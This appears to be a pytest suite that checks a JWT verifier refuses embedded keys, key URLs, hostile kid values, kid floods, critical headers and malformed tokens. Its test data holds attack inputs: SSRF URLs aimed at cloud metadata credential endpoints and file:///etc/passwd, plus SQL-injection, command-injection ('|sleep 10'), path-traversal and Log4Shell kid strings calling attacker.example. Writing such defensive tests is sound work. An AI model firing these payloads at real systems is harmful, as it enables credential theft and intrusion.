"""SECURITY_CASES 7-11: header injection, key selection and malformed tokens.

Where a test says "no fetch", the clock is first moved past the unknown-kid cooldown, so a
refetch would be allowed if the verifier got as far as looking the kid up: the count then
proves the token was stopped before any network work.
"""

from __future__ import annotations

import asyncio
import base64
import datetime
import json
import secrets
from collections.abc import Callable, Mapping
from typing import Any

import httpx
import pytest
import respx
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.x509.oid import NameOID

from backend.auth import Reason, TokenError
from backend.auth.testing import (
    OMIT,
    IssuerStub,
    SigningKey,
    better_auth_id,
    generate_key,
    sign_compact,
)
from tests.auth.support import Api, CacheFactory, encode_segment, forge_unsigned, split
from tests.conftest import FrozenClock

COOLDOWN_S = 10  # JWKS_COOLDOWN_S default
MAX_TOKEN_BYTES = 8192  # AUTH_MAX_TOKEN_BYTES default


def open_refetch_window(clock: FrozenClock) -> None:
    """Move past the cooldown that follows the last JWKS fetch: a refetch is allowed again."""
    clock.advance(COOLDOWN_S + 1)


def self_signed_certificate(key: SigningKey) -> bytes:
    """DER of a self-signed certificate for the attacker's key (what x5c would carry)."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key)
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .sign(key.private_key, None if key.alg == "EdDSA" else hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.DER)


KEY_URLS = [
    pytest.param("https://attacker.example/.well-known/jwks.json", id="attacker"),
    pytest.param("http://127.0.0.1:3000/api/auth/jwks", id="loopback"),
    pytest.param("http://[::1]:8000/keys", id="loopback-v6"),
    pytest.param("http://169.254.169.254/latest/meta-data/iam/security-credentials/", id="imds"),
    pytest.param("http://metadata.google.internal/computeMetadata/v1/", id="gcp-metadata"),
    pytest.param("file:///etc/passwd", id="file"),
]


class TestEmbeddedKeys:
    """SECURITY_CASES 7: the token never chooses its own key. An embedded `jwk`, or a `jku`,
    `x5u` or `x5c` header, gets a 401, and no URL it names is ever fetched."""

    @pytest.mark.parametrize("kid", ["attacker", "ours"])
    async def test_embedded_jwk(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], kid: str
    ) -> None:
        open_refetch_window(clock)
        attacker = generate_key("EdDSA")
        header = {
            "alg": "EdDSA",
            "kid": attacker.kid if kid == "attacker" else api.issuer.signing_key.kid,
            "jwk": attacker.jwk,
        }
        token = sign_compact(header, api.issuer.claims(user), attacker)
        await api.refused(token, reason=Reason.BAD_HEADER)

    @pytest.mark.parametrize("url", KEY_URLS)
    @pytest.mark.parametrize("parameter", ["jku", "x5u"])
    async def test_key_url_is_never_fetched(
        self,
        api: Api,
        clock: FrozenClock,
        jwks_mock: respx.Router,
        user: dict[str, Any],
        parameter: str,
        url: str,
    ) -> None:
        attacker = generate_key("EdDSA")
        # The attacker's server would answer with the attacker's key; it must never be asked.
        trap = jwks_mock.route(url=url).mock(
            return_value=httpx.Response(200, json={"keys": [attacker.jwk]})
        )
        open_refetch_window(clock)
        header = {"alg": "EdDSA", "kid": attacker.kid, parameter: url}
        token = sign_compact(header, api.issuer.claims(user), attacker)
        await api.refused(token, reason=Reason.BAD_HEADER)
        assert not trap.called

    async def test_jku_naming_our_own_jwks_url(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        """Even a jku equal to the configured JWKS URL is refused (and causes no fetch)."""
        open_refetch_window(clock)
        key = api.issuer.signing_key
        header = {"alg": "EdDSA", "kid": key.kid, "jku": api.issuer.jwks_url}
        await api.refused(
            sign_compact(header, api.issuer.claims(user), key), reason=Reason.BAD_HEADER
        )

    @pytest.mark.parametrize("alg", ["EdDSA", "ES256", "RS256"])
    async def test_x5c_with_the_attackers_certificate(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], alg: str
    ) -> None:
        open_refetch_window(clock)
        attacker = generate_key(alg)
        chain = [base64.b64encode(self_signed_certificate(attacker)).decode()]
        header = {"alg": alg, "kid": attacker.kid, "x5c": chain}
        token = sign_compact(header, api.issuer.claims(user), attacker)
        await api.refused(token, reason=Reason.BAD_HEADER)

    async def test_x5c_alongside_our_kid(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        """Our kid and a genuine signature, plus an x5c: the header is refused as a whole."""
        open_refetch_window(clock)
        key = api.issuer.signing_key
        chain = [base64.b64encode(self_signed_certificate(generate_key("EdDSA"))).decode()]
        token = api.issuer.mint(user, header={"x5c": chain})
        assert split(token)[0] != split(api.issuer.mint(user))[0]
        await api.refused(token, reason=Reason.BAD_HEADER)
        await api.accepted(api.issuer.mint(user, key=key), user=user)


BAD_KIDS = [  # refused on sight: never looked up
    pytest.param("", id="empty"),
    pytest.param("A" * 2 * 1024, id="2KB"),
    pytest.param("A" * 10 * 1024, id="10KB"),  # the token is then over 8 KiB too
    pytest.param("k" * 257, id="257-chars"),
    pytest.param(42, id="number"),
    pytest.param(4.2, id="float"),
    pytest.param(True, id="bool"),
    pytest.param(None, id="null"),
    pytest.param(OMIT, id="missing"),
    pytest.param(["kid"], id="list"),
    pytest.param({"kid": "x"}, id="object"),
]
UNKNOWN_KIDS = [  # well-formed strings that name no key: at most one refetch per window
    pytest.param("../../dev/null", id="path-traversal"),
    pytest.param("x' UNION SELECT '1';--", id="sql-injection"),
    pytest.param("|sleep 10", id="command-injection"),
    pytest.param("${jndi:ldap://attacker.example/a}", id="log4shell"),
    pytest.param("%00", id="percent-null"),
    pytest.param("\u0000", id="nul"),
    pytest.param("ключ", id="non-ascii"),
    pytest.param("k" * 256, id="256-chars"),
]


class TestKidValues:
    """SECURITY_CASES 8: hostile `kid` values get a 401, no extra work (malformed kids are
    never looked up) and at most one JWKS fetch per cooldown window."""

    @pytest.mark.parametrize("kid", BAD_KIDS)
    async def test_malformed_kid_is_never_looked_up(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], kid: object
    ) -> None:
        open_refetch_window(clock)
        token = api.issuer.mint(user, header={"kid": kid})  # a genuine signature
        await api.refused(token, reason=(Reason.BAD_KID, Reason.OVERSIZED), fetches=0)

    @pytest.mark.parametrize("kid", UNKNOWN_KIDS)
    async def test_unknown_kid(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], kid: str
    ) -> None:
        open_refetch_window(clock)
        token = api.issuer.mint(user, header={"kid": kid})
        await api.refused(token, reason=Reason.UNKNOWN_KID, fetches=1)
        # Asked again: remembered as unknown, no second fetch.
        await api.refused(token, reason=Reason.UNKNOWN_KID, fetches=0)
        await api.accepted(api.issuer.mint(user), user=user)

    async def test_unknown_kid_inside_the_cooldown_window(
        self, api: Api, user: dict[str, Any]
    ) -> None:
        """Right after a fetch (the warm-up), an unknown kid causes no fetch at all."""
        token = api.issuer.mint(user, header={"kid": "../../dev/null"})
        await api.refused(token, reason=Reason.UNKNOWN_KID, fetches=0)

    async def test_all_hostile_kids_make_one_fetch_per_window(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        kids = [param.values[0] for param in (*BAD_KIDS, *UNKNOWN_KIDS)]
        for window in range(3):
            open_refetch_window(clock)
            before = api.fetches
            for kid in kids:
                token = api.issuer.mint(user, header={"kid": kid})
                await api.refused(token, fetches=None)
            assert api.fetches - before == 1, f"window {window}"


class TestKidFlood:
    """SECURITY_CASES 9: a flood of random kids gets 401 each, makes at most one JWKS fetch per
    cooldown window, and valid tokens keep being served (from the verified-token cache,
    without waiting on the network)."""

    async def test_sequential_flood(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        open_refetch_window(clock)
        for _ in range(200):
            token = api.issuer.mint(user, header={"kid": better_auth_id()})
            await api.refused(token, reason=Reason.UNKNOWN_KID, fetches=None)
        assert api.fetches == 2  # the warm-up and one refetch for the whole window

        clock.advance(COOLDOWN_S - 2)  # still inside the window opened by that refetch
        for _ in range(50):
            token = api.issuer.mint(user, header={"kid": better_auth_id()})
            await api.refused(token, reason=Reason.UNKNOWN_KID, fetches=None)
        assert api.fetches == 2

        clock.advance(2)  # the next window
        for _ in range(50):
            token = api.issuer.mint(user, header={"kid": better_auth_id()})
            await api.refused(token, reason=Reason.UNKNOWN_KID, fetches=None)
        assert api.fetches == 3

    async def test_concurrent_flood_with_valid_tokens_in_between(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        valid = api.issuer.mint(user)
        await api.accepted(valid, user=user)  # now in the verified-token cache
        hits_before = api.verifier.cache_hits
        open_refetch_window(clock)

        flood = [api.issuer.mint(user, header={"kid": better_auth_id()}) for _ in range(150)]
        api.keep_secret(*flood, valid)
        sent = [valid if i % 10 == 0 else token for i, token in enumerate(flood)]
        responses = await asyncio.gather(
            *(api.client.get("/api/me", headers={"Authorization": f"Bearer {t}"}) for t in sent)
        )

        valid_count = sent.count(valid)
        statuses = [response.status_code for response in responses]
        assert statuses.count(200) == valid_count
        assert statuses.count(401) == len(sent) - valid_count
        assert api.fetches == 2  # the warm-up and at most one refetch in the window
        assert api.verifier.cache_hits - hits_before == valid_count  # no key lookup at all
        assert api.invalid_reference is not None
        for response in responses:
            if response.status_code == 401:
                assert response.content == api.invalid_reference.content
        api.assert_only_jwks_requested()
        api.assert_nothing_logged()

    async def test_valid_token_first_seen_during_the_flood(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        """A valid token never seen before is verified during a flood with no fetch."""
        open_refetch_window(clock)
        for _ in range(20):
            await api.refused(api.issuer.mint(user, header={"kid": better_auth_id()}), fetches=None)
        before = api.fetches
        await api.accepted(api.issuer.mint(user), user=user)
        assert api.fetches == before

    async def test_remembered_unknown_kids_are_bounded(
        self,
        issuer: IssuerStub,
        jwks_route: respx.Route,
        make_cache: CacheFactory,
        clock: FrozenClock,
    ) -> None:
        """The memory of unknown kids cannot be grown without bound by a flood."""
        cache = make_cache()
        await cache.get(issuer.signing_key.kid)
        for _ in range(5000):
            with pytest.raises(TokenError):
                await cache.get(secrets.token_urlsafe(12))
        assert len(cache._unknown_kids) <= 1024
        assert cache.fetch_count == 1
        open_refetch_window(clock)
        for _ in range(5000):
            with pytest.raises(TokenError):
                await cache.get(secrets.token_urlsafe(12))
        assert cache.fetch_count == 2
        assert jwks_route.call_count == 2


class TestCriticalHeaders:
    """SECURITY_CASES 10: `crit` (any value) and `b64: false` are refused, as are other
    parameters that would change how the token is read (zip, enc)."""

    @pytest.mark.parametrize(
        "extra",
        [
            pytest.param({"crit": ["foo"], "foo": 1}, id="crit-foo"),
            pytest.param({"crit": ["foo"]}, id="crit-foo-absent"),
            pytest.param({"crit": ["b64"], "b64": False}, id="crit-b64-false"),
            pytest.param({"b64": False}, id="b64-false"),
            pytest.param({"crit": []}, id="crit-empty"),
            pytest.param({"crit": "exp"}, id="crit-string"),
            pytest.param({"zip": "DEF"}, id="zip"),
            pytest.param({"enc": "A256GCM"}, id="enc"),
        ],
    )
    async def test_refused(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], extra: dict[str, Any]
    ) -> None:
        open_refetch_window(clock)
        await api.refused(api.issuer.mint(user, header=extra), reason=Reason.BAD_HEADER)

    async def test_unencoded_payload(self, api: Api, user: dict[str, Any]) -> None:
        """RFC 7797: with b64 false the payload travels raw; here signed over the raw JSON."""
        key = api.issuer.signing_key
        header = {"alg": "EdDSA", "kid": key.kid, "b64": False, "crit": ["b64"]}
        raw = json.dumps(api.issuer.claims(user), separators=(",", ":"))
        signing_input = f"{encode_segment(header)}.{raw}".encode()
        signature = base64.urlsafe_b64encode(key.sign(signing_input)).rstrip(b"=").decode()
        await api.refused(f"{encode_segment(header)}.{raw}.{signature}")
        # The detached form (RFC 7515 appendix F): an empty payload segment.
        await api.refused(f"{encode_segment(header)}..{signature}", reason=Reason.MALFORMED)


def token_of_length(issuer: IssuerStub, user: dict[str, Any], length: int) -> str:
    """A genuine token of exactly `length` characters (a filler claim sets the size; the
    optional `typ` header shifts the total when base64 cannot land on it)."""
    # `,"typ":"..."` adds 0, 13 and 17 bytes: three residues mod 3, so one of them fits.
    for typ in (OMIT, "JOSE", "jwt+json"):
        base = len(issuer.mint(user, header={"typ": typ}, filler=""))
        filler = max(0, (length - base) * 3 // 4 - 8)
        token = issuer.mint(user, header={"typ": typ}, filler="x" * filler)
        while len(token) < length:
            filler += 1
            token = issuer.mint(user, header={"typ": typ}, filler="x" * filler)
        if len(token) == length:
            return token
    raise AssertionError(f"no token of {length} characters")


def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def jwe(issuer: IssuerStub, *, direct: bool = False) -> str:
    """A compact JWE (five segments) naming our kid; `direct`: alg dir, empty key segment."""
    header = {
        "alg": "dir" if direct else "RSA-OAEP-256",
        "enc": "A256GCM",
        "kid": issuer.signing_key.kid,
    }
    encrypted_key = b"" if direct else secrets.token_bytes(256)
    parts: list[Mapping[str, Any] | bytes] = [
        header,
        encrypted_key,
        *(secrets.token_bytes(n) for n in (12, 300, 16)),
    ]
    return ".".join(encode_segment(part) for part in parts)


Builder = Callable[[IssuerStub, dict[str, Any], str], str]
"""(issuer, user, a well-formed genuine token) -> a malformed token."""


def flattened_json(issuer: IssuerStub, user: dict[str, Any], genuine: str) -> str:
    header, payload, signature = split(genuine)
    return json.dumps({"payload": payload, "protected": header, "signature": signature})


def general_json(issuer: IssuerStub, user: dict[str, Any], genuine: str) -> str:
    header, payload, signature = split(genuine)
    return json.dumps(
        {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
    )


def padded(issuer: IssuerStub, user: dict[str, Any], genuine: str) -> str:
    """Each segment with its base64 padding, signed over exactly that (padded) input."""
    key = issuer.signing_key

    def pad(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).decode()

    header = pad(json.dumps({"alg": "EdDSA", "kid": key.kid, "x": "12"}).encode())
    payload = pad(json.dumps(issuer.claims(user), separators=(",", ":")).encode() + b" ")
    assert header.endswith("=")
    assert payload.endswith("=")
    signing_input = f"{header}.{payload}"
    return f"{signing_input}.{pad(key.sign(signing_input.encode()))}"


def standard_base64(issuer: IssuerStub, user: dict[str, Any], genuine: str) -> str:
    """The signature in standard base64 (+ and /) rather than base64url."""
    header, payload, signature = split(genuine)
    translated = signature.replace("-", "+").replace("_", "/")
    if translated == signature:  # make sure at least one character differs
        translated = "+" + signature[1:]
    return f"{header}.{payload}.{translated}"


def impossible_length(issuer: IssuerStub, user: dict[str, Any], genuine: str) -> str:
    """A header segment of 4n+1 characters: not decodable as base64 at all."""
    header, payload, signature = split(genuine)
    header = header + "A" * ((1 - len(header)) % 4)
    assert len(header) % 4 == 1
    return f"{header}.{payload}.{signature}"


def unknown_kid_header(issuer: IssuerStub) -> dict[str, str]:
    return {"alg": "EdDSA", "kid": better_auth_id()}


MALFORMED: dict[str, Builder] = {
    "one-segment": lambda issuer, user, genuine: split(genuine)[1],
    "two-segments": lambda issuer, user, genuine: ".".join(split(genuine)[:2]),
    "four-segments": lambda issuer, user, genuine: f"{genuine}.{split(genuine)[2]}",
    "jwe-five-segments": lambda issuer, user, genuine: jwe(issuer),
    "jwe-dir-empty-key": lambda issuer, user, genuine: jwe(issuer, direct=True),
    "empty-header": lambda issuer, user, genuine: "." + genuine.split(".", 1)[1],
    "empty-payload": lambda issuer, user, genuine: genuine.replace(split(genuine)[1], ""),
    "json-flattened": flattened_json,
    "json-general": general_json,
    "padding": padded,
    "standard-base64": standard_base64,
    "impossible-base64-length": impossible_length,
    "space-inside": lambda issuer, user, genuine: genuine.replace(".", ". ", 1),
    "non-ascii": lambda issuer, user, genuine: genuine.replace(".", "é.", 1),
    "header-not-json": lambda issuer, user, genuine: forge_unsigned(
        b"alg=EdDSA", issuer.claims(user), split(genuine)[2]
    ),
    "header-array": lambda issuer, user, genuine: forge_unsigned(
        b'["EdDSA"]', issuer.claims(user), split(genuine)[2]
    ),
    "header-string": lambda issuer, user, genuine: forge_unsigned(
        b'"EdDSA"', issuer.claims(user), split(genuine)[2]
    ),
    "header-number": lambda issuer, user, genuine: forge_unsigned(
        b"1e999", issuer.claims(user), split(genuine)[2]
    ),
    "header-non-utf8": lambda issuer, user, genuine: forge_unsigned(
        b'{"alg":"EdDSA","kid":"\xff\xfe\xc3\x28"}', issuer.claims(user), split(genuine)[2]
    ),
    "header-nan": lambda issuer, user, genuine: forge_unsigned(
        b'{"alg":"EdDSA","kid":"k","x":NaN}', issuer.claims(user), split(genuine)[2]
    ),
    "header-nested-2000": lambda issuer, user, genuine: forge_unsigned(
        b'{"alg":"EdDSA","kid":"' + better_auth_id().encode() + b'","x":' + nested(2000) + b"}",
        issuer.claims(user),
        split(genuine)[2],
    ),
    "header-trailing-data": lambda issuer, user, genuine: forge_unsigned(
        json.dumps(unknown_kid_header(issuer)).encode() + b"{}",
        issuer.claims(user),
        split(genuine)[2],
    ),
    "header-utf16": lambda issuer, user, genuine: forge_unsigned(
        json.dumps(unknown_kid_header(issuer)).encode("utf-16"),
        issuer.claims(user),
        split(genuine)[2],
    ),
}


class TestMalformedTokens:
    """SECURITY_CASES 11: anything but a compact JWS of three base64url segments holding JSON
    objects, or a token over 8 KiB, gets a 401 before any key lookup (no fetch)."""

    @pytest.mark.parametrize("shape", sorted(MALFORMED))
    async def test_malformed(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], shape: str
    ) -> None:
        open_refetch_window(clock)
        # The genuine token's kid is unknown: were it looked up, a fetch would follow.
        genuine = api.issuer.mint(user, header={"kid": better_auth_id()})
        token = MALFORMED[shape](api.issuer, user, genuine)
        await api.refused(token, reason=Reason.MALFORMED, fetches=0)

    async def test_non_utf8_bytes_in_the_authorization_header(
        self, api: Api, clock: FrozenClock, user: dict[str, Any]
    ) -> None:
        open_refetch_window(clock)
        token = api.issuer.mint(user)
        api.keep_secret(token)
        for raw in (b"\xff\xfe" + token.encode(), token.encode() + b"\x80", b"\xc3\x28"):
            await api.refused(
                headers=[(b"Authorization", b"Bearer " + raw)], reason=Reason.MALFORMED
            )

    @pytest.mark.parametrize(
        "payload",
        [
            pytest.param(nested(2000), id="nested-array-2000"),
            pytest.param(b'{"":' * 1030 + b"1" + b"}" * 1030, id="nested-object-1030"),
            pytest.param(b'{"sub":"\xff"}', id="non-utf8"),
            pytest.param(b"not json", id="not-json"),
            pytest.param(b"[1,2,3]", id="array"),
            pytest.param(b'"claims"', id="string"),
            pytest.param(b"null", id="null"),
            pytest.param(b"", id="empty"),
        ],
    )
    async def test_signed_payload_not_a_claims_object(
        self, api: Api, user: dict[str, Any], payload: bytes
    ) -> None:
        """A genuine signature over a payload that is not a JSON object: refused, no crash."""
        key = api.issuer.signing_key
        token = sign_compact({"alg": key.alg, "kid": key.kid}, payload, key)
        if not payload:  # an empty payload segment is not a compact JWS at all
            await api.refused(token, reason=Reason.MALFORMED)
        else:
            await api.refused(token, reason=Reason.BAD_CLAIMS)

    async def test_signed_payload_with_a_deeply_nested_claim(
        self, api: Api, user: dict[str, Any]
    ) -> None:
        claims = json.dumps(api.issuer.claims(user), separators=(",", ":")).encode()
        payload = claims[:-1] + b',"deep":' + nested(2500) + b"}"
        key = api.issuer.signing_key
        token = sign_compact({"alg": key.alg, "kid": key.kid}, payload, key)
        assert len(token) <= MAX_TOKEN_BYTES
        await api.refused(token, reason=Reason.BAD_CLAIMS)

    async def test_token_at_the_size_cap_is_accepted(self, api: Api, user: dict[str, Any]) -> None:
        await api.accepted(token_of_length(api.issuer, user, MAX_TOKEN_BYTES), user=user)

    @pytest.mark.parametrize(
        "length", [MAX_TOKEN_BYTES + 1, MAX_TOKEN_BYTES + 2, 12 * 1024, 64 * 1024]
    )
    async def test_token_over_the_size_cap(
        self, api: Api, clock: FrozenClock, user: dict[str, Any], length: int
    ) -> None:
        """A genuine signature, but too big: refused before parsing (so, unknown kid or not,
        no fetch)."""
        open_refetch_window(clock)
        token = token_of_length(api.issuer, user, length)
        await api.refused(token, reason=Reason.OVERSIZED, fetches=0)
        unknown_kid = api.issuer.mint(user, header={"kid": better_auth_id()}, filler="x" * length)
        await api.refused(unknown_kid, reason=Reason.OVERSIZED, fetches=0)
